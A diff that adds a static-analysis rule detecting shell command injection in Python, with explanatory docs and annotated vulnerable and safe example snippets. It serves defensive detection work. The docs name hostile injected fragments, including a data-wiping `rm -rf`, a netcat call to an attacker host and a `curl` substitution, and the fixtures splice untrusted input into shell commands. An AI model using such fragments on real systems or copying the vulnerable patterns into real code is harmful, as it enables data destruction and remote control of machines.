@@ -1,0 +1,173 @@
+"""Shell commands built from data: `os.system`, `os.popen`, `subprocess` with `shell=True`, ...
+
+A string handed to a shell is parsed by the shell, so `;`, `|`, `$(...)` in the data run
+commands. Constant commands are clean; `shlex.quote` sanitises; data flow sets confidence.
+Without a shell, only a tainted *program* (`subprocess.run([prog, ...])`) is reported: a
+variable program name of unknown origin is ordinary code, and tainted arguments of a fixed
+program are argument injection (CWE-88), a different and far rarer problem.
+"""
+
+from __future__ import annotations
+
+from tree_sitter import Node
+
+from ..analysis.nodes import argument, is_false, keyword_arg
+from ..analysis.sinks import taint_verdict
+from ..context import Match
+from ..model import Category, Confidence, Report, Rule, Severity
+
+SHELL_CALLS = frozenset(
+    {f"os.{name}" for name in ("system", "popen", "popen2", "popen3", "popen4")}
+    | {f"{module}.{name}" for module in ("subprocess", "commands") for name in ("getoutput", "getstatusoutput")}
+    | {"asyncio.create_subprocess_shell", "popen2.popen2", "popen2.popen3", "platform.popen"}
+)
+SUBPROCESS = frozenset(f"subprocess.{name}" for name in ("run", "call", "check_call", "check_output", "Popen"))
+# The exec/spawn families run a program without a shell: only a tainted program name counts.
+EXEC_CALLS = frozenset(
+    {f"os.exec{suffix}" for suffix in ("v", "ve", "vp", "vpe", "l", "le", "lp", "lpe")}
+    | {f"os.spawn{suffix}" for suffix in ("v", "ve", "vp", "vpe", "l", "le", "lp", "lpe")}
+    | {"asyncio.create_subprocess_exec", "os.posix_spawn", "os.posix_spawnp"}
+)
+_SHELL_FIRST = ("os.", "asyncio.", "subprocess.get", "commands.", "popen2.", "platform.")
+_CONSEQUENCE = "the shell runs any command it contains"
+
+
+def _command(match: Match, name: str) -> Node | None:
+    args = match.node("args")
+    keyword = "cmd" if name.startswith(_SHELL_FIRST) else "args"
+    command = argument(args, 0, keyword)
+    if command is not None and command.type in ("list", "tuple") and name in SUBPROCESS:
+        return command.named_children[0] if command.named_children else None  # `shell=True` runs only the first item
+    return command
+
+
+def _program(match: Match, name: str) -> Node | None:
+    """The program a no-shell call runs: the first list item, or the lone string."""
+    args = match.node("args")
+    if name.startswith("os.spawn"):
+        return argument(args, 1, "file")
+    command = argument(args, 0, "args" if name in SUBPROCESS else None)
+    if command is not None and command.type in ("list", "tuple"):
+        return command.named_children[0] if command.named_children else None
+    return command
+
+
+def runs_untrusted_command(match: Match) -> Report | None:
+    name = match.ctx.qualified_name(match.node("fn")) or ""
+    shell = keyword_arg(match.node("args"), "shell")
+    if name in SHELL_CALLS or (name in SUBPROCESS and shell is not None and not is_false(shell)):
+        return taint_verdict(
+            match,
+            _command(match, name),
+            f"a shell command (`{name}`)",
+            environment=True,
+            sanitizers=("shlex.quote",),
+            consequence=_CONSEQUENCE,
+        )
+    verdict = taint_verdict(
+        match,
+        _program(match, name),
+        f"the program name of `{name}`",
+        environment=True,
+        report_unknown=False,
+        consequence="the caller chooses which program runs",
+    )
+    return verdict
+
+
+RULE = Rule(
+    id="os-command-injection",
+    title="OS command built from data",
+    category=Category.INJECTION,
+    cwe=(78,),
+    owasp=("A03:2021",),
+    severity=Severity.HIGH,
+    confidence=Confidence.MEDIUM,
+    languages=frozenset({"python"}),
+    calls=SHELL_CALLS | SUBPROCESS | EXEC_CALLS,
+    where=runs_untrusted_command,
+    aliases=("B602", "S602", "B605", "S605", "B604", "S604", "B603", "S603", "B609", "S609"),
+    message="A shell command built from data runs whatever commands the data contains.",
+    docs="""## Why is this bad?
+`os.system`, `os.popen`, `subprocess.*(..., shell=True)` and `asyncio.create_subprocess_shell`
+pass a string to `/bin/sh`. If any part of that string comes from a user, `; rm -rf ~`,
+`| nc attacker 4444` or `$(curl ...)` in it are commands too. A tainted program name
+(`subprocess.run([request.args["tool"], ...])`) lets the caller pick the binary.
+
+Confidence is high when request data, `input()`, `sys.argv` or the environment (CI and container
+settings are often attacker-influenced) reaches the command, and medium when a piece of a
+shell command has unknown origin. Constant commands are not reported. Without a shell only a
+tainted program name is reported; an unknown one is everyday code.
+
+## How to fix
+Pass a list of arguments without a shell: `subprocess.run(["ping", "-c", "1", host], check=True)`.
+If a shell is unavoidable, quote every piece with `shlex.quote`, and pick programs from an
+allow-list (`if tool not in TOOLS: abort(400)`).
+""",
+    references=(
+        "https://cwe.mitre.org/data/definitions/78.html",
+        "https://docs.python.org/3/library/subprocess.html#security-considerations",
+        "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
+    ),
+    examples="""
+import os
+import shlex
+import subprocess
+import subprocess as sp
+import sys
+from subprocess import run as sh, Popen
+from asyncio import create_subprocess_shell
+from flask import Flask, request
+app = Flask(__name__)
+TOOLS = {"ls", "df"}
+
+@app.post("/ping")
+async def ping():
+    host = request.form["host"]
+    # ruleid: os-command-injection
+    os.system("ping -c 1 " + host)
+    # ruleid: os-command-injection
+    subprocess.run(f"ping -c 1 {host}", shell=True)
+    # ruleid: os-command-injection
+    sh("nslookup %s" % host, shell=True)
+    # ruleid: os-command-injection
+    sp.check_output(["dig " + host], shell=True)
+    # ruleid: os-command-injection
+    await create_subprocess_shell(f"traceroute {host}")
+    # ruleid: os-command-injection
+    os.popen("whois {}".format(host)).read()
+    # ok: os-command-injection
+    subprocess.run(["ping", "-c", "1", host], check=True)
+    # ok: os-command-injection
+    os.system("ping -c 1 " + shlex.quote(host))
+    # ok: os-command-injection
+    subprocess.run("ls -l /tmp", shell=True)
+    tool = request.args.get("tool")
+    # ruleid: os-command-injection
+    Popen([tool, "--version"])
+    if tool not in TOOLS:
+        return "no", 400
+    # ok: os-command-injection
+    Popen([tool, "--version"])
+
+def backup(target):
+    # ruleid: os-command-injection
+    os.system(f"tar czf /backups/out.tgz {target}")
+    # ok: os-command-injection
+    subprocess.run([target, "-v"])
+    # ok: os-command-injection
+    subprocess.run(f"echo {target}", shell=False)
+
+# ruleid: os-command-injection
+os.system("convert " + sys.argv[1] + " out.png")
+# ruleid: os-command-injection
+subprocess.call("make " + os.environ["TARGET"], shell=True)
+# `sh -c` through the exec family hides the shell inside an argument, which is not followed.
+# todoruleid: os-command-injection
+os.execl("/bin/sh", "sh", "-c", sys.argv[1])
+import settings
+# A constant of another module is of unknown origin here (no inter-module analysis).
+# todook: os-command-injection
+subprocess.run(f"git log -n {settings.MAX_COMMITS}", shell=True)
+""",
+)
